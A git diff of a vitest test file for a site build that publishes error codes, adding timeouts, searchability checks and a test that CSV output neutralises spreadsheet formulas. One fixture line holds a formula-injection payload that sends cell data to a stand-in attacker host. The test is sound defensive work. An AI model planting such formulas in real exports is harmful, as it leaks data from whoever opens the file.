@@ -1,8 +1,12 @@
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
+import { copyFileSync, existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { describe, expect, it } from 'vitest';
+import { join, relative } from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { beforeAll, describe, expect, it } from 'vitest';
+
+/** A cold build of a small table takes about 10 s here; two agents building at once, twice that. */
+const BUILD_TIMEOUT = 120_000;
 
 /** Runs a real build into a throwaway directory so the site in dist/ is left alone. */
 function buildWith(env: Record<string, string>) {
@@ -16,6 +20,8 @@ function buildWith(env: Record<string, string>) {
 	return { status: result.status, output: `${result.stdout}${result.stderr}`, published, outDir };
 }
 
+type Build = ReturnType<typeof buildWith>;
+
 describe('a build from a table that does not hold together', () => {
 	it('stops on a malformed row, naming the file, line and code, and publishes nothing', () => {
 		const table = 'tests/fixtures/tables/duplicate-code.md';
@@ -23,7 +29,7 @@ describe('a build from a table that does not hold together', () => {
 		expect(status, output).not.toBe(0);
 		expect(output).toContain(`${table}:9 (code "898001"): duplicate code`);
 		expect(published).toEqual([]);
-	}, 60_000);
+	}, BUILD_TIMEOUT);
 
 	it('stops when a code has no category, naming the code and its table line', () => {
 		const { status, output, published } = buildWith({ ERROR_TABLE: 'tests/fixtures/tables/markup-in-cells.md' });
@@ -31,15 +37,18 @@ describe('a build from a table that does not hold together', () => {
 		expect(output).toContain('content/categories.yaml does not match the error table');
 		expect(output).toContain('code 1 (table line 2) has no category');
 		expect(published).toEqual([]);
-	}, 60_000);
+	}, BUILD_TIMEOUT);
 });
 
 describe('a build from a table that gained one code and lost another', () => {
-	const build = buildWith({
-		ERROR_TABLE: 'tests/fixtures/tables/new-code-without-prose.md',
-		ERROR_CATEGORIES: 'tests/fixtures/categories/small.yaml',
-		ERROR_RETIRED: 'tests/fixtures/retired/898002.yaml',
-	});
+	let build: Build;
+	beforeAll(() => {
+		build = buildWith({
+			ERROR_TABLE: 'tests/fixtures/tables/new-code-without-prose.md',
+			ERROR_CATEGORIES: 'tests/fixtures/categories/small.yaml',
+			ERROR_RETIRED: 'tests/fixtures/retired/898002.yaml',
+		});
+	}, BUILD_TIMEOUT);
 
 	it('publishes the new code from the table alone and warns, naming it', () => {
 		const { status, output, published, outDir } = build;
@@ -61,5 +70,47 @@ describe('a build from a table that gained one code and lost another', () => {
 		expect(page).toContain('href="/en/codes/898010/"');
 		const exported = JSON.parse(readFileSync(join(outDir, 'codes.json'), 'utf-8')) as { codes: { code: number; status: string }[] };
 		expect(exported.codes.find((c) => c.code === 898002)?.status).toBe('retired');
+	});
+
+	it('keeps the removed code findable: in the code map and in the full-text index', () => {
+		const { outDir } = build;
+		const map = JSON.parse(readFileSync(join(outDir, 'en/search/codes.json'), 'utf-8')) as { codes: [number, number, string][] };
+		expect(map.codes.map(([code]) => code)).toEqual([0, 898002, 898010]);
+		const entry = JSON.parse(readFileSync(join(outDir, 'pagefind/pagefind-entry.json'), 'utf-8')) as {
+			languages: Record<string, { page_count: number }>;
+		};
+		expect(entry.languages['en']?.page_count).toBe(3);
+	});
+});
+
+describe('a build from a table kept outside the project, whose message is a spreadsheet formula', () => {
+	// A maintainer keeping the table in another checkout passes absolute paths outside this one.
+	const elsewhere = mkdtempSync(join(tmpdir(), 'other-checkout-'));
+	const table = join(elsewhere, 'errors.md');
+	const categories = join(elsewhere, 'categories.yaml');
+	let build: Build;
+	beforeAll(() => {
+		copyFileSync('tests/fixtures/tables/formula-message.md', table);
+		copyFileSync('tests/fixtures/categories/small.yaml', categories);
+		build = buildWith({ ERROR_TABLE: table, ERROR_CATEGORIES: categories });
+	}, BUILD_TIMEOUT);
+
+	it('reads the table and its categories from absolute paths outside the project', () => {
+		expect(relative(process.cwd(), table)).toMatch(/^\.\.\//);
+		const { status, output, published } = build;
+		expect(status, output).toBe(0);
+		expect(output).toContain(`3 codes loaded from ${table}`);
+		expect(published).toEqual(expect.arrayContaining(['codes/898010/index.html', 'en/codes/898011/index.html']));
+	});
+
+	it('hands the formula to spreadsheets as text in codes.csv, and verbatim in codes.json', () => {
+		const { outDir } = build;
+		const rows = parseCsv(readFileSync(join(outDir, 'codes.csv'), 'utf-8'), { columns: true, bom: true }) as Record<string, string>[];
+		const formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")';
+		expect(rows.find((r) => r['code'] === '898010')?.['message']).toBe(`'${formula}`);
+		expect(rows.find((r) => r['code'] === '898011')?.['message']).toBe("'-1 retries left");
+		expect(rows.find((r) => r['code'] === '0')?.['message']).toBe('success');
+		const exported = JSON.parse(readFileSync(join(outDir, 'codes.json'), 'utf-8')) as { codes: { code: number; message: string }[] };
+		expect(exported.codes.find((c) => c.code === 898010)?.message).toBe(formula);
 	});
 });
